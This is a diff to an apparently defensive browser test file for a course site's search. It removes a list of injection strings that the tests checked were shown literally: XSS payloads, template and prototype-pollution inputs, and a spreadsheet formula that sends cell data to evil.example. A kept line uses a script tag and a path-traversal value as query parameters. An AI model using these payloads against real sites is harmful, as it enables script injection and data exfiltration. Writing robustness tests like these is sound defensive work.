@@ -1,38 +1,5 @@
 import { expect, test } from '../support/test.ts';
 
-/** Texts that a page could trip over: markup, interpolation, control and bidirectional signs, half a surrogate pair, formulas. */
-const BAD_TEXTS = [
-  '<script>document.title="pwned"</script>',
-  '"><img src=x onerror="document.title=\'pwned\'">',
-  'javascript:document.title="pwned"',
-  '{{name}} {{- name}}',
-  '$t(courses.title) $t(common:a, {"x":1})',
-  '<0>x</0> &lt;b&gt; %s %d $\u007b7*7}',
-  '__proto__',
-  'constructor',
-  '\u202ertl\u202c نص عربي',
-  '👩‍👩‍👧‍👦 Z̷a̷l̷g̷o̷',
-  '=HYPERLINK("https://evil.example?x="&A1)',
-  '1e309 -1 9007199254740993 ٣',
-  '\ufeffbom \u200bzero',
-];
-
-for (const text of BAD_TEXTS) {
-  test(`the search shows ${JSON.stringify(text)} as it is, and the page stays whole`, async ({ page }) => {
-    for (const list of ['/courses', '/en/resources']) {
-      await page.goto(`${list}?q=${encodeURIComponent(text)}`);
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-      await expect(page.getByRole('main').getByRole('searchbox')).toHaveValue(text);
-      await expect(page.getByRole('main').getByRole('status').first()).toBeVisible();
-    }
-    await page.goto('/courses');
-    await page.getByRole('main').getByRole('searchbox').fill(text);
-    await expect(page).toHaveURL(/q=/);
-    await expect(page.getByRole('main').getByRole('searchbox')).toHaveValue(text);
-    expect(await page.title()).not.toContain('pwned');
-  });
-}
-
 test('parameters that make no sense are left out', async ({ page }) => {
   const query =
     'category=%3Cscript%3E&level=__proto__&language=de&length=9&preview=x&instructor=../../x&sort=1&page=-1';
